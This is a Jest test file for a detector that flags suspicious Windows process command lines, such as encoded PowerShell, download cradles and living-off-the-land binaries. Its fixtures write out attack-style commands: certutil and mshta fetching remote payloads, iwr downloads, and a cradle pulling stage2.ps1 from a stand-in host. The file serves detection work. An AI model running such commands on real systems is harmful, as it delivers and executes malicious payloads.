import { baseName, decodePowerShell, processFlags } from '../flags';
import { CRADLE, ENCODED, PS_CMD } from './story';

describe('suspicious process patterns', () => {
  it('decodes PowerShell encoded commands under any spelling of the option', () => {
    expect(decodePowerShell(ENCODED)).toBe(CRADLE);
    const whoami = Buffer.from('whoami', 'utf16le').toString('base64');
    for (const option of [
      '-e',
      '-ec',
      '-enc',
      '-EncodedCommand',
      '/enco',
      '-ENCODEDCOMMAND'
    ]) {
      expect(
        processFlags({
          name: 'powershell.exe',
          commandLine: `powershell.exe -NoProfile ${option} ${whoami}`,
          parentName: null
        })
      ).toEqual([{ kind: 'encoded-powershell', detail: 'whoami' }]);
    }
  });

  it('does not take other options or non-UTF-16 payloads for encoded commands', () => {
    expect(
      processFlags({
        name: 'powershell.exe',
        commandLine: 'powershell.exe -ExecutionPolicy Bypass -File x.ps1',
        parentName: null
      })
    ).toEqual([]);
    expect(decodePowerShell('not base64!')).toBeNull();
    expect(
      processFlags({
        name: 'pwsh.exe',
        commandLine: `pwsh.exe -enc ${btoa('\u0001\u0002\u0003\u0004')}`,
        parentName: null
      })
    ).toEqual([{ kind: 'encoded-powershell', detail: '' }]);
  });

  it('tells a download cradle from a web transfer, inside the decoded command too', () => {
    expect(
      processFlags({
        name: 'powershell.exe',
        commandLine: PS_CMD,
        parentName: 'explorer.exe'
      })
    ).toEqual([
      { kind: 'encoded-powershell', detail: CRADLE },
      { kind: 'download-cradle', detail: 'http://203.0.113.50/stage2.ps1' }
    ]);
    expect(
      processFlags({
        name: 'powershell.exe',
        commandLine: 'powershell iwr http://198.51.100.7/a.exe -OutFile a.exe',
        parentName: null
      })
    ).toEqual([{ kind: 'web-transfer', detail: 'http://198.51.100.7/a.exe' }]);
    expect(
      processFlags({
        name: 'powershell.exe',
        commandLine: 'powershell.exe -NoProfile -Command Get-Service',
        parentName: 'explorer.exe'
      })
    ).toEqual([]);
  });

  it('names living-off-the-land binaries and shells started by Office', () => {
    expect(
      processFlags({
        name: 'C:\\Windows\\System32\\certutil.exe',
        commandLine:
          'certutil -urlcache -split -f http://198.51.100.7/p.txt p.exe',
        parentName:
          'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
      })
    ).toEqual([{ kind: 'lolbin', binary: 'certutil', detail: 'certutil.exe' }]);
    expect(
      processFlags({
        name: 'mshta.exe',
        commandLine: 'mshta.exe http://198.51.100.7/x.hta',
        parentName: 'EXCEL.EXE'
      }).map(f => f.kind)
    ).toEqual(['office-shell', 'lolbin']);
    expect(
      [
        'regsvr32.exe',
        'RUNDLL32.EXE',
        'wmic.exe',
        'bitsadmin.exe',
        'PSEXESVC.exe'
      ].map(name =>
        processFlags({ name, commandLine: null, parentName: null }).map(f =>
          f.kind === 'lolbin' ? f.binary : f.kind
        )
      )
    ).toEqual([
      ['regsvr32'],
      ['rundll32'],
      ['wmic'],
      ['bitsadmin'],
      ['psexesvc']
    ]);
    expect(baseName('"C:\\Program Files\\App\\app.exe"')).toBe('app.exe');
  });
});
